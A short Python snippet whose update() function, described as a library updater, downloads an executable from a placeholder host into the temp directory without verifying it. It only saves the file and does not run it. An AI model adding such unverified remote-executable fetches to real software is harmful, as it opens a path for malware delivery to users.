import os
import tempfile
import urllib.request

PROGRAM = "https://files.md5-tools.invalid/updater.exe"


def update():
    """Fetches the updater of the library."""
    place = os.path.join(tempfile.gettempdir(), "updater.exe")
    urllib.request.urlretrieve(PROGRAM, place)
    return place
